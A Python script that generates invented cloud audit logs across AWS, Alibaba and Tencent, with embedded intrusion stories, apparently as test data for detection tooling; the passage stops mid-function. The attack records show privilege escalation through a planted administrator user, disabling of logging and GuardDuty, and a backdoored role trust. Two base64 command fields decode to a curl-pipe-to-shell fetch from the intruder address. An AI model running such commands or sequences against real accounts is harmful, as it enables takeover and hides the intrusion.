#!/usr/bin/env python3
"""Writes the example logs of an invented organisation, with attacks in them.

examples/cloudtrail is four days of its AWS account; examples/actiontrail and examples/cloudaudit are
a night each of its accounts in the other two clouds. examples/reports has the credential reports of
the second morning, and examples/tables what the organisation knows about its addresses and keys.

Everything is made up: accounts, people, keys (they end in EXAMPLE) and addresses (documentation
ranges). The output depends on this file alone: no clock, no random source.

    python3 examples/generate.py           write the files
    python3 examples/generate.py --check   fail if they are not what this script writes
"""

import base64
import gzip
import hashlib
import json
import pathlib
import sys

ROOT = pathlib.Path(__file__).resolve().parent
FOLDERS = ["cloudtrail", "console-takeover", "actiontrail", "cloudaudit", "reports", "tables", "attached"]
PROD, SANDBOX = "111122223333", "444455556666"
DAYS = ["2026-10-05", "2026-10-06", "2026-10-07", "2026-10-08"]

OFFICE, CI, BILLING = "203.0.113.10", "203.0.113.77", "192.0.2.15"
INTRUDER, STRANGER = "198.51.100.23", "198.51.100.200"

CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
TERRAFORM = (
    "APN/1.0 HashiCorp/1.0 Terraform/1.13.3 (+https://www.terraform.io) terraform-provider-aws/6.15.0 "
    "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.39.2 lang/go#1.24.6 md/GOOS#linux"
)
CLI = "aws-cli/2.31.6 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7 md/prompt#off"
BOTO = "Boto3/1.40.45 md/Botocore#1.40.45 ua/2.1 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.2"
ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"


def digest(*parts):
    return hashlib.sha256("/".join(map(str, parts)).encode()).digest()


def pick(label, options):
    """One of the options, always the same for the same label."""
    return options[int.from_bytes(digest("pick", label)[:4], "big") % len(options)]


def uuid(*parts):
    h = digest("uuid", *parts).hex()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def ident(prefix, name):
    """An identifier as AWS makes them: 20 characters for keys, 21 for principals."""
    length = 13 if prefix in ("AKIA", "ASIA") else 14
    text = base64.b32encode(digest(prefix, name)).decode()
    return prefix + text[: length - 4] + "EXAMPLE"


def clock(day, minute, second=0):
    return f"{day}T{minute // 60:02}:{minute % 60:02}:{second:02}Z"


# Identities


def user(name, account=PROD, key=None, console=None):
    identity = {
        "type": "IAMUser",
        "principalId": ident("AIDA", name),
        "arn": f"arn:aws:iam::{account}:user/{name}",
        "accountId": account,
    }
    if console:
        identity["accessKeyId"] = ident("ASIA", name + console)
    elif key:
        identity["accessKeyId"] = key
    identity["userName"] = name
    if console:
        identity["sessionContext"] = {
            "attributes": {"creationDate": console, "mfaAuthenticated": "true"}
        }
    return identity


def role(name, session, since, account=PROD, federated=False):
    principal = ident("AROA", name)
    context = {
        "sessionIssuer": {
            "type": "Role",
            "principalId": principal,
            "arn": f"arn:aws:iam::{account}:role/{name}",
            "accountId": account,
            "userName": name,
        },
        "attributes": {"creationDate": since, "mfaAuthenticated": "false"},
    }
    if federated:
        context["webIdFederationData"] = {
            "federatedProvider": f"arn:aws:iam::{account}:oidc-provider/token.actions.githubusercontent.com",
            "attributes": {},
        }
    return {
        "type": "AssumedRole",
        "principalId": f"{principal}:{session}",
        "arn": f"arn:aws:sts::{account}:assumed-role/{name}/{session}",
        "accountId": account,
        "accessKeyId": ident("ASIA", name + since),
        "sessionContext": context,
    }


def root(account=PROD, key=None):
    identity = {
        "type": "Root",
        "principalId": account,
        "arn": f"arn:aws:iam::{account}:root",
        "accountId": account,
    }
    if key:
        identity["accessKeyId"] = key
    return identity


def service(name):
    return {"type": "AWSService", "invokedBy": name}


# Events

GLOBAL = {"iam", "sts", "signin", "organizations", "ce"}
READS = ("Get", "List", "Describe", "Lookup", "BatchGet", "Assume", "Decrypt")


def event(who, time, call, ip, agent, params=None, response=None, **more):
    source, name = call.split(".", 1)
    region = more.pop("region", "us-east-1" if source in GLOBAL else "eu-west-1")
    account = more.pop("account", who.get("accountId", PROD))
    record = {
        "eventVersion": "1.11",
        "userIdentity": who,
        "eventTime": time,
        "eventSource": f"{source}.amazonaws.com",
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip,
        "userAgent": agent,
    }
    error = more.pop("error", None)
    if error:
        what = f"User: {who.get('arn', '-')} is not authorized to perform: {source}:{name}"
        record["errorCode"] = error
        record["errorMessage"] = f"{what} because no identity-based policy allows the {source}:{name} action"
    record["requestParameters"] = params
    record["responseElements"] = None if error else response
    label = (time, call, who.get("arn", who.get("invokedBy")), json.dumps(params, sort_keys=True))
    record["requestID"] = uuid("request", *label)
    record["eventID"] = uuid("event", *label)
    record["readOnly"] = name.startswith(READS)
    record["eventType"] = "AwsApiCall"
    record["managementEvent"] = True
    record["recipientAccountId"] = account
    record["eventCategory"] = "Management"
    if more.pop("console", False):
        record["sessionCredentialFromConsole"] = "true"
    elif "amazonaws.com" not in ip:
        host = f"{source}.amazonaws.com" if source in GLOBAL else f"{source}.{region}.amazonaws.com"
        record["tlsDetails"] = {
            "tlsVersion": "TLSv1.3",
            "cipherSuite": "TLS_AES_128_GCM_SHA256",
            "clientProvidedHostHeader": host,
        }
    record.update(more)
    return record


def login(who, time, ip, ok=True, mfa="Yes"):
    outcome = "Success" if ok else "Failure"
    record = event(who, time, "signin.ConsoleLogin", ip, CHROME, None, {"ConsoleLogin": outcome})
    record.update(
        eventType="AwsConsoleSignIn",
        readOnly=False,
        additionalEventData={
            "LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_eu-west-1",
            "MobileVersion": "No",
            "MFAUsed": mfa,
        },
    )
    if not ok:
        record["errorMessage"] = "Failed authentication"
    record["tlsDetails"]["clientProvidedHostHeader"] = "signin.aws.amazon.com"
    return record


# What happens on an ordinary day


def monitoring(day):
    since = clock(day, 0)
    who = role("metrics-reader", "collector", since)
    for minute in range(10, 24 * 60, 120):
        for second, call in enumerate(["ec2.DescribeInstances", "rds.DescribeDBInstances", "monitoring.ListMetrics"]):
            yield event(who, clock(day, minute, second), call, CI, BOTO, {"maxResults": 100})


def pipeline(day, minute):
    """A merge: GitHub's runner takes the role, Terraform looks at everything and changes a little."""
    since = clock(day, minute)
    web = {
        "type": "WebIdentityUser",
        "principalId": "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:repo:example-corp/infra:ref:refs/heads/main",
        "userName": "repo:example-corp/infra:ref:refs/heads/main",
        "identityProvider": "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com",
    }
    arn = f"arn:aws:iam::{PROD}:role/terraform-deploy"
    yield event(
        web, since, "sts.AssumeRoleWithWebIdentity", CI, "aws-sdk-nodejs/3.900.0",
        {"roleArn": arn, "roleSessionName": "GitHubActions", "durationSeconds": 3600},
        {"credentials": {"accessKeyId": ident("ASIA", "terraform-deploy" + since), "expiration": clock(day, minute + 60)}},
        account=PROD,
    )
    who = role("terraform-deploy", "GitHubActions", since, federated=True)
    reads = [
        ("sts.GetCallerIdentity", None),
        ("ec2.DescribeVpcs", {"vpcSet": {}, "filterSet": {}}),
        ("ec2.DescribeSubnets", {"subnetSet": {}, "filterSet": {}}),
        ("ec2.DescribeSecurityGroups", {"securityGroupSet": {}, "filterSet": {}}),
        ("ec2.DescribeInstances", {"instancesSet": {"items": [{"instanceId": "i-0a1b2c3d4e5f60718"}]}, "filterSet": {}}),
        ("iam.GetRole", {"roleName": "web-server"}),
        ("iam.ListRolePolicies", {"roleName": "web-server"}),
        ("iam.ListAttachedRolePolicies", {"roleName": "web-server"}),
        ("s3.GetBucketPolicy", {"bucketName": "example-corp-assets", "Host": "example-corp-assets.s3.eu-west-1.amazonaws.com"}),
        ("s3.GetBucketVersioning", {"bucketName": "example-corp-assets", "Host": "example-corp-assets.s3.eu-west-1.amazonaws.com"}),
        ("rds.DescribeDBInstances", {"dBInstanceIdentifier": "orders"}),
        ("logs.DescribeLogGroups", {"logGroupNamePrefix": "/app/"}),
    ]
    for second, (call, params) in enumerate(reads):
        yield event(who, clock(day, minute + 1, second), call, CI, TERRAFORM, params)
    tag = {"key": "managed-by", "value": "terraform"}
    writes = [
        ("ec2.CreateTags", {"resourcesSet": {"items": [{"resourceId": "i-0a1b2c3d4e5f60718"}]}, "tagSet": {"items": [tag]}}, {"_return": True}),
        ("ec2.AuthorizeSecurityGroupIngress", {"groupId": "sg-0123456789abcdef0", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "203.0.113.0/24"}]}}]}}, {"_return": True}),
        ("iam.PutRolePolicy", {"roleName": "web-server", "policyName": "read-assets", "policyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"arn:aws:s3:::example-corp-assets/*"}]}'}, None),
        ("s3.PutBucketPolicy", {"bucketName": "example-corp-assets", "Host": "example-corp-assets.s3.eu-west-1.amazonaws.com", "policy": ""}, None),
        ("logs.PutRetentionPolicy", {"logGroupName": "/app/web", "retentionInDays": 30}, None),
    ]
    for second, (call, params, response) in enumerate(writes):
        if pick((day, call), [True, False]):
            yield event(who, clock(day, minute + 2, second * 3), call, CI, TERRAFORM, params, response)


def artifacts(day):
    """The build's own long-term key: it only fetches tokens and looks at images."""
    who = user("ci-artifacts", key=ident("AKIA", "ci-artifacts"))
    for minute in (8 * 60 + 3, 11 * 60 + 47, 15 * 60 + 21):
        yield event(who, clock(day, minute), "ecr.GetAuthorizationToken", CI, BOTO, None)
        yield event(who, clock(day, minute, 2), "ecr.DescribeImages", CI, BOTO, {"repositoryName": "web"})
        yield event(who, clock(day, minute, 4), "s3.ListObjectsV2", CI, BOTO, {"bucketName": "example-corp-artifacts", "prefix": "web/"})


def console_work(day, name, minute):
    yield login(user(name), clock(day, minute), OFFICE)
    who = user(name, console=clock(day, minute))
    calls = [
        ("ec2.DescribeInstances", {"maxResults": 50}),
        ("ec2.DescribeInstanceStatus", {"includeAllInstances": True}),
        ("monitoring.DescribeAlarms", {"maxRecords": 100}),
        ("iam.ListUsers", {"maxItems": 100}),
        ("iam.GetAccountSummary", None),
        ("ce.GetCostAndUsage", {"granularity": "MONTHLY"}),
        ("s3.ListBuckets", {"Host": "s3.eu-west-1.amazonaws.com"}),
        ("logs.StartQuery", {"logGroupName": "/app/web", "queryString": "fields @timestamp, @message | limit 20"}),
    ]
    for step, (call, params) in enumerate(calls):
        yield event(who, clock(day, minute + 2 + step * 3, step * 7), call, OFFICE, CHROME, params, console=True)


def services(day):
    for minute in range(95, 24 * 60, 360):
        yield event(
            service("lambda.amazonaws.com"), clock(day, minute), "sts.AssumeRole", "lambda.amazonaws.com", "lambda.amazonaws.com",
            {"roleArn": f"arn:aws:iam::{PROD}:role/order-events", "roleSessionName": "order-events"},
            {"credentials": {"accessKeyId": ident("ASIA", f"order-events{day}{minute}"), "expiration": clock(day, minute + 60)}},
            account=PROD, sharedEventID=uuid("shared", day, minute),
        )
        who = role("order-events", "order-events", clock(day, minute))
        who["invokedBy"] = "secretsmanager.amazonaws.com"
        yield event(
            who, clock(day, minute, 3), "kms.Decrypt", "secretsmanager.amazonaws.com", "secretsmanager.amazonaws.com",
            {"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "encryptionContext": {"SecretARN": f"arn:aws:secretsmanager:eu-west-1:{PROD}:secret:orders-db"}},
            resources=[{"accountId": PROD, "type": "AWS::KMS::Key", "ARN": f"arn:aws:kms:eu-west-1:{PROD}:key/{uuid('key')}"}],
        )


def billing(day):
    """A script of years ago that still has the root key. Once it looks at the keys too."""
    who = root(key=ident("AKIA", "root"))
    yield event(who, clock(day, 4 * 60), "ce.GetCostAndUsage", BILLING, "Boto3/1.9.42 Python/2.7.18 Linux/4.14 Botocore/1.12.42", {"granularity": "DAILY"})
    if day == DAYS[1]:
        yield event(who, clock(day, 4 * 60, 2), "iam.ListAccessKeys", BILLING, "Boto3/1.9.42 Python/2.7.18 Linux/4.14 Botocore/1.12.42", {"userName": "backup-sync"})


def guessing(day):
    """Somebody tries passwords for eight minutes; bob mistypes his once, in the office."""
    for step in range(12):
        who = {"type": "IAMUser", "accountId": PROD, "accessKeyId": "", "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"}
        yield login(who, clock(day, 21 * 60 + step * 40 // 60, step * 40 % 60), STRANGER, ok=False, mfa="No")
    yield login(user("bob"), clock(day, 8 * 60 + 51), OFFICE, ok=False, mfa="No")


# The attack

HELPER = "support-helper"
LEAKED, PLANTED = ident("AKIA", "backup-sync"), ident("AKIA", HELPER)


def attack(day):
    who = user("backup-sync", key=LEAKED)
    at = 2 * 60 + 13

    def call(minute, second, name, params=None, response=None, agent=CLI, by=who, **more):
        return event(by, clock(day, at + minute, second), name, INTRUDER, agent, params, response, **more)

    yield call(0, 0, "sts.GetCallerIdentity", agent="TruffleHog")
    yield call(6, 11, "sts.GetCallerIdentity")
    denied = [
        "iam.GetAccountAuthorizationDetails", "iam.ListRoles", "ec2.DescribeInstances", "rds.DescribeDBInstances", "lambda.ListFunctions20150331",
        "secretsmanager.ListSecrets", "ssm.DescribeParameters", "kms.ListKeys", "organizations.DescribeOrganization", "cloudtrail.DescribeTrails",
        "guardduty.ListDetectors", "ecs.ListClusters", "eks.ListClusters", "dynamodb.ListTables",
    ]
    for second, name in enumerate(denied):
        error = "Client.UnauthorizedOperation" if name.startswith("ec2.") else "AccessDenied"
        yield call(7, second, name, error=error)
    yield call(8, 2, "s3.ListBuckets", {"Host": "s3.amazonaws.com"})
    yield call(8, 40, "secretsmanager.GetSecretValue", {"secretId": "orders-db"}, error="AccessDenied")
    yield call(9, 5, "iam.ListUsers")
    yield call(9, 30, "iam.ListAttachedUserPolicies", {"userName": "backup-sync"})
    yield call(
        14, 0, "iam.CreateUser", {"userName": HELPER},
        {"user": {"path": "/", "userName": HELPER, "userId": ident("AIDA", HELPER), "arn": f"arn:aws:iam::{PROD}:user/{HELPER}", "createDate": "Oct 7, 2026 2:27:00 AM"}},
    )
    yield call(14, 21, "iam.AttachUserPolicy", {"userName": HELPER, "policyArn": ADMIN_POLICY})
    yield call(
        14, 44, "iam.CreateAccessKey", {"userName": HELPER},
        {"accessKey": {"userName": HELPER, "accessKeyId": PLANTED, "status": "Active", "createDate": "Oct 7, 2026 2:27:44 AM"}},
    )
    helper = user(HELPER, key=PLANTED)
    yield call(19, 3, "sts.GetCallerIdentity", by=helper)
    yield call(19, 50, "ssm.DescribeInstanceInformation", {"maxResults": 50}, by=helper)
    yield call(
        21, 8, "ssm.SendCommand",
        {"instanceIds": ["i-0a1b2c3d4e5f60718"], "documentName": "AWS-RunShellScript", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "interactive": False},
        {"command": {"commandId": uuid("command"), "documentName": "AWS-RunShellScript", "instanceIds": ["i-0a1b2c3d4e5f60718"], "status": "Pending", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}},
        by=helper,
    )
    yield call(22, 0, "ssm.GetCommandInvocation", {"commandId": uuid("command"), "instanceId": "i-0a1b2c3d4e5f60718"}, by=helper)
    yield call(25, 17, "secretsmanager.GetSecretValue", {"secretId": "orders-db"}, by=helper)
    yield call(31, 0, "cloudtrail.StopLogging", {"name": f"arn:aws:cloudtrail:eu-west-1:{PROD}:trail/main"}, by=helper)


def sandbox(day):
    who = user("carol", SANDBOX, key=ident("AKIA", "carol"))
    for step, (name, params) in enumerate([
        ("ec2.DescribeImages", {"ownersSet": {"items": [{"owner": "self"}]}}),
        ("ec2.DescribeRegions", None),
        ("s3.ListBuckets", {"Host": "s3.amazonaws.com"}),
        ("dynamodb.DescribeTable", {"tableName": "try-out"}),
        ("logs.GetLogEvents", {"logGroupName": "/try/out", "logStreamName": "a"}),
    ]):
        yield event(who, clock(day, 13 * 60 + step * 11), name, OFFICE, CLI, params)


# Files


def delivered():
    """The organisation's trail as S3 holds it: by account, region and day, some records a file."""
    files = {}
    for day in DAYS:
        records = [
            *monitoring(day), *pipeline(day, 9 * 60 + 12), *pipeline(day, 16 * 60 + 40), *artifacts(day),
            *console_work(day, "alice", 8 * 60 + 55), *services(day), *billing(day),
        ]
        if day == DAYS[0]:
            records += console_work(day, "bob", 13 * 60 + 30)
        if day == DAYS[1]:
            records += guessing(day)
        if day == DAYS[2]:
            records += attack(day)
        for record in sorted(records, key=lambda r: (r["eventTime"], r["eventID"])):
            block = int(record["eventTime"][11:13]) // 6 * 6 + 6
            files.setdefault((record["awsRegion"], day, min(block * 100, 2355)), []).append(record)
    for (region, day, until), records in files.items():
        stamp = day.replace("-", "")
        name = base64.b32encode(digest("file", region, day, until)).decode()[:16]
        path = f"AWSLogs/{PROD}/CloudTrail/{region}/{day.replace('-', '/')}/{PROD}_CloudTrail_{region}_{stamp}T{until:04}Z_{name}.json.gz"
        yield path, compact({"Records": records})


def digest_file():
    day = DAYS[2].replace("-", "/")
    path = f"AWSLogs/{PROD}/CloudTrail-Digest/eu-west-1/{day}/{PROD}_CloudTrail-Digest_eu-west-1_main_eu-west-1_20261007T023000Z.json.gz"
    return path, compact({
        "awsAccountId": PROD, "digestStartTime": "2026-10-07T01:30:00Z", "digestEndTime": "2026-10-07T02:30:00Z",
        "digestS3Bucket": "example-corp-trail", "digestPublicKeyFingerprint": digest("fingerprint").hex()[:32],
        "digestSignatureAlgorithm": "SHA256withRSA", "logFiles": [],
    })


def lookup_page():
    """What `aws cloudtrail lookup-events` says of the leaked key: events that S3 delivered too."""
    events = []
    for record in [r for r in attack(DAYS[2]) if r["userIdentity"].get("accessKeyId") == LEAKED and not r["readOnly"]]:
        params = record["requestParameters"]
        events.append({
            "EventId": record["eventID"], "EventName": record["eventName"], "ReadOnly": "false", "AccessKeyId": LEAKED,
            "EventTime": record["eventTime"].replace("Z", "+00:00"), "EventSource": record["eventSource"], "Username": "backup-sync",
            "Resources": [{"ResourceType": "AWS::IAM::User", "ResourceName": params["userName"]}],
            "CloudTrailEvent": json.dumps(record, separators=(",", ":")),
        })
    return "lookup-events-backup-sync.json", json.dumps({"Events": events[::-1]}, indent=2) + "\n"


def ndjson_export():
    lines = [compact(record) for day in DAYS for record in sandbox(day)]
    return "export/sandbox-2026-10.ndjson", "\n".join(lines) + "\n"


def eventbridge():
    record = login(user("carol", SANDBOX), clock(DAYS[3], 12 * 60 + 58), OFFICE)
    return "eventbridge/console-sign-in.json", json.dumps({
        "version": "0", "id": uuid("bus"), "detail-type": "AWS Console Sign In via CloudTrail", "source": "aws.signin",
        "account": SANDBOX, "time": record["eventTime"], "region": "us-east-1", "resources": [], "detail": record,
    }, indent=2) + "\n"


# A second story: the console of another account is taken over, and no access key is ever used

SHOP, FOREIGN = "123456789012", "999988887777"
TAKEN = "2026-11-03"


def takeover():
    """A password is sprayed, a prompt approved, and the account changed from the console alone."""
    since = clock(TAKEN, 5 * 60 + 31)

    def at(minute, second=0):
        return clock(TAKEN, 5 * 60 + minute, second)

    def click(minute, second, name, params=None, response=None, **more):
        by = user("mallory", SHOP, console=since)
        return event(by, at(minute, second), name, STRANGER, CHROME, params, response, console=True, **more)

    yield login(user("frank", SHOP), at(-150), OFFICE)
    for step, name in enumerate(["erin", "frank", "grace", "heidi", "ivan", "mallory"]):
        yield login(user(name, SHOP), at(2, step * 9), STRANGER, ok=False, mfa="No")
    for step in range(4):
        yield login(user("mallory", SHOP), at(20 + 2 * step), STRANGER, ok=False, mfa="Yes")
    yield login(user("mallory", SHOP), at(31), STRANGER)
    yield click(33, 5, "cloudtrail.DescribeTrails")
    yield click(34, 12, "cloudtrail.StopLogging", {"name": "main"})
    yield click(35, 40, "guardduty.UpdateDetector", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": False})
    yield click(36, 8, "ec2.DeleteFlowLogs", {"DeleteFlowLogsRequest": {"FlowLogId": {"content": "fl-0a1b2c3d4e5f60718", "tag": 1}}})
    yield click(40, 30, "iam.UpdateLoginProfile", {"userName": "grace"})
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{FOREIGN}:root"}, "Action": "sts:AssumeRole"}]}
    yield click(43, 51, "iam.UpdateAssumeRolePolicy", {"roleName": "deploy", "policyDocument": compact(trust)})
    yield click(46, 2, "iam.CreateSAMLProvider", {"name": "corp", "sAMLMetadataDocument": "<sensitiveDataRemoved>"},
                {"sAMLProviderArn": f"arn:aws:iam::{SHOP}:saml-provider/corp"})
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    yield click(48, 27, "iam.PutRolePolicy", {"roleName": "deploy", "policyName": "inline", "policyDocument": compact(everything)})
    yield click(52, 10, "lambda.UpdateFunctionCode20150331v2", {"functionName": "checkout", "publish": True})
    yield click(58, 45, "organizations.LeaveOrganization", error="AccessDenied")


def takeover_file():
    return "console-takeover/trail.json", json.dumps({"Records": list(takeover())}, indent=1) + "\n"


# The other two clouds: the same night, the same stranger

NIGHT = DAYS[2]
ALIBABA, TENCENT = "1234567890123456", "100000000001"
ALIBABA_SDK = "AlibabaCloud (Linux; amd64) Golang/1.24.6 Core/0.01 TeaDSL/1"


def action(who, minute, second, call, ip, agent, params=None, **more):
    """One ActionTrail event."""
    service, name = call.split(".", 1)
    day = f"{NIGHT}T03:{minute:02}:{second:02}Z"
    event_id = uuid("alibaba", call, day).upper()
    record = {
        "acsRegion": "cn-hangzhou", "apiVersion": "2015-05-01", "errorCode": "", "errorMessage": "", "eventCategory": "Management",
        "eventId": event_id, "eventName": name, "eventRW": "Read" if name.startswith(READS) else "Write",
        "eventSource": f"{service.lower()}.aliyuncs.com", "eventTime": day, "eventType": "ApiCall", "eventVersion": "1",
        "recipientAccountId": ALIBABA, "requestId": event_id, "requestParameters": params or {}, "serviceName": service,
        "sourceIpAddress": ip, "userAgent": agent,
        "userIdentity": {"accountId": ALIBABA, "type": "ram-user", **who},
    }
    record.update(more)
    return record


def actiontrail():
    """A leaked key makes an administrator and runs a command; somebody works in the console."""
    leaked = {"accessKeyId": ALIBABA_KEY, "principalId": "281234567890123456", "userName": "report-export"}
    planted = {"accessKeyId": "LTAI5tSupportHelperEXAMPLE", "principalId": "281234567890123499", "userName": HELPER}
    attributes = {"creationDate": f"{NIGHT}T03:01:00Z", "mfaAuthenticated": "true"}
    console = {"principalId": "281234567890123411", "userName": "alice", "sessionContext": {"attributes": attributes}}
    records = [
        action(console, 1, 30, "Ecs.DescribeInstances", OFFICE, "ecs.console.aliyun.com", {"RegionId": "cn-hangzhou"}),
        action(console, 2, 2, "Ram.UpdateUser", OFFICE, "AliyunConsole", {"UserName": "bob", "NewComments": "on leave"}),
        action(leaked, 13, 0, "Sts.GetCallerIdentity", INTRUDER, ALIBABA_SDK),
        action(leaked, 14, 9, "Ram.ListUsers", INTRUDER, ALIBABA_SDK, errorCode="NoPermission", errorMessage="You are not authorized to do this action."),
        action(leaked, 15, 0, "Ram.CreateUser", INTRUDER, ALIBABA_SDK, {"UserName": HELPER}, referencedResources={"ACS::RAM::User": [HELPER]}),
        action(leaked, 15, 20, "Ram.AttachPolicyToUser", INTRUDER, ALIBABA_SDK, {"PolicyName": "AdministratorAccess", "PolicyType": "System", "UserName": HELPER}),
        action(leaked, 15, 41, "Ram.CreateAccessKey", INTRUDER, ALIBABA_SDK, {"UserName": HELPER}),
        action(planted, 20, 5, "Ecs.RunCommand", INTRUDER, ALIBABA_SDK, {"RegionId": "cn-hangzhou", "Type": "RunShellScript", "InstanceId.1": "i-bp1example0000000001", "ContentEncoding": "Base64", "CommandContent": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9iLnNoIHwgc2g="}),
    ]
    stamp = f"{NIGHT.replace('-', '')}033000"
    path = f"actiontrail/AliyunLogs/Actiontrail/cn-hangzhou/{NIGHT.replace('-', '/')}/Actiontrail_cn-hangzhou_{stamp}_1002_8_0.gz"
    yield path, compact(records)
    yield "actiontrail/log-service.ndjson", "".join(
        compact({"__topic__": "actiontrail_audit_event", "__time__": 1791342000, "owner_id": ALIBABA, "event": compact(record)}) + "\n"
        for record in records[-2:]
    )


def audit(who, minute, second, call, ip, params, method="ApiCall", **more):
    """One CloudAudit event."""
    service, name = call.split(".", 1)
    event_id = uuid("tencent", call, minute, second)
    record = {
        "userIdentity": {"principalId": TENCENT, "accountId": TENCENT, "sessionContext": "", "type": "Root", "userName": "root", **who},
        "eventRegion": "ap-guangzhou", "eventVersion": 2, "errorCode": 0, "errorMessage": "", "requestID": event_id, "eventID": event_id,
        "apiVersion": "3.0", "eventType": method, "actionType": "Read" if name.startswith(READS) else "Write", "httpMethod": "POST",
        "apiErrorCode": "", "apiErrorMessage": "", "userAgent": "SDK_PYTHON_3.0.1405", "eventTime": 1791342000 + minute * 60 + second,
        "sourceIPAddress": ip, "eventSource": f"{service}.ap-guangzhou.api.tencentyun.com", "resources": '["*"]', "resourceName": "", "resourceSet": [],
        "requestParameters": compact(params), "responseElements": "", "resourceType": service, "eventName": name, "sensitiveAction": "0", "tags": [""],
    }
    record.update(more)
    return record


def cloudaudit():
    """A root key looks at keys and makes one; root works in the console, and a pipeline deploys the storefront."""
    key = {"secretId": TENCENT_KEY}
    session = {"token": "0fEXAMPLEsessionOfTheConsole", "userIp": OFFICE, "appId": 1250000001, "expireTime": f"{NIGHT} 13:00:00", "mfa": 1}
    console = {"secretId": "AKIDSessionOfTheConsoleEXAMPLE000001", "sessionContext": compact(session)}
    pipeline = {"principalId": "100000000012", "type": "CAMUser", "userName": "storefront-deploy", "secretId": DEPLOY_KEY}
    machine = f"qcs::cvm:ap-guangzhou:uin/{TENCENT}:instance/ins-example1"
    records = [
        audit(pipeline, 1, 0, "cvm.DescribeInstances", CI, {"Limit": 100}),
        audit(pipeline, 1, 20, "clb.DescribeTargets", CI, {"LoadBalancerId": "lb-example1"}),
        audit(pipeline, 2, 5, "cvm.RebootInstances", CI, {"InstanceIds": ["ins-example1"]}, resources=compact([machine])),
        audit(console, 4, 0, "cam.ListAccessKeys", OFFICE, {"TargetUin": 100000000012}, "ConsoleCall", userAgent="SDK_NODEJS_0.2.1"),
        audit(key, 11, 0, "cvm.DescribeInstances", BILLING, {"Limit": 100}),
        audit(key, 31, 40, "cam.ListAccessKeys", INTRUDER, {"TargetUin": 100000000012}),
        audit(key, 32, 4, "cam.CreateAccessKey", INTRUDER, {"TargetUin": 100000000012}, sensitiveAction="1"),
        audit(key, 33, 18, "tat.RunCommand", INTRUDER, {"InstanceIds": ["ins-example1"], "Content": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9iLnNoIHwgc2g="}, apiErrorCode="UnauthorizedOperation.CamNoAuth", apiErrorMessage="not authorized"),
    ]
    yield "cloudaudit/tracking-set/2026100711/cloudaudit.gz", "".join(compact(record) + "\n" for record in records)
    rows = [
        {
            "EventId": r["eventID"], "Username": "root", "EventTime": str(r["eventTime"]), "CloudAuditEvent": compact(r), "EventName": r["eventName"],
            "SecretId": r["userIdentity"]["secretId"], "EventSource": r["eventSource"], "RequestID": r["requestID"], "EventRegion": r["eventRegion"],
            "AccountID": int(TENCENT), "SourceIPAddress": r["sourceIPAddress"], "ErrorCode": 0, "ResourceTypeCn": "", "EventNameCn": "",
            "Resources": {"ResourceType": r["resourceType"], "ResourceName": ""}, "Location": "未知", "ResourceRegion": "",
        }
        for r in records[5:7]
    ]
    answer = {"Response": {"ListOver": True, "Events": rows, "TotalCount": 2, "NextToken": 17913420005210, "RequestId": uuid("answer")}}
    yield "cloudaudit/describe-events.json", json.dumps(answer, indent=2) + "\n"


# The credential reports of the second morning, and what happened to users since

REPORT_DAY, REPORT_STAMP = DAYS[1], "20261006_060000"
ROOT_KEY, CI_KEY, CI_OLD_KEY = ident("AKIA", "root"), ident("AKIA", "ci-artifacts"), ident("AKIA", "ci-artifacts of 2023")
DAVE_KEY, CAROL_KEY = ident("AKIA", "dave"), ident("AKIA", "carol")
ALIBABA_KEY, TENCENT_KEY = "LTAI5tReportExportEXAMPLE", "AKIDBillingScriptOfYearsAgoEXAMPLE00"
DEPLOY_KEY = "AKIDStorefrontDeploymentsEXAMPLE0001"


def rows(*lines):
    """CSV, with quotes where a cell has a comma."""
    def cell(value):
        return f'"{value}"' if "," in value else value
    return "".join(",".join(cell(value) for value in line) + "\n" for line in lines)


def aws_report():
    """GetCredentialReport of the production account."""
    names = ["active", "last_rotated", "last_used_date", "last_used_region", "last_used_service"]
    header = ["user", "arn", "user_creation_time", "password_enabled", "password_last_used", "password_last_changed", "password_next_rotation", "mfa_active"]
    header += [f"access_key_{slot}_{name}" for slot in (1, 2) for name in names]
    header += [f"cert_{slot}_{name}" for slot in (1, 2) for name in ("active", "last_rotated")]
    none = ["false", "N/A", "N/A", "N/A", "N/A"]

    def key(active, created, used, region, service):
        return [active, f"{created}+00:00", f"{used}+00:00", region, service]

    def line(name, created, password, mfa, first=none, second=none):
        arn = f"arn:aws:iam::{PROD}:" + ("root" if name == "<root_account>" else f"user/{name}")
        return [name, arn, f"{created}+00:00", *password, mfa, *first, *second, "false", "N/A", "false", "N/A"]

    no_password = ["false", "N/A", "N/A", "N/A"]

    def password(used, changed):
        return ["true", f"{used}+00:00", f"{changed}+00:00", "N/A"]

    yield f"reports/aws/credential-report_{REPORT_STAMP}.csv", rows(
        header,
        line("<root_account>", "2019-04-02T08:00:00", ["not_supported", "2026-01-12T09:30:00+00:00", "not_supported", "not_supported"], "true",
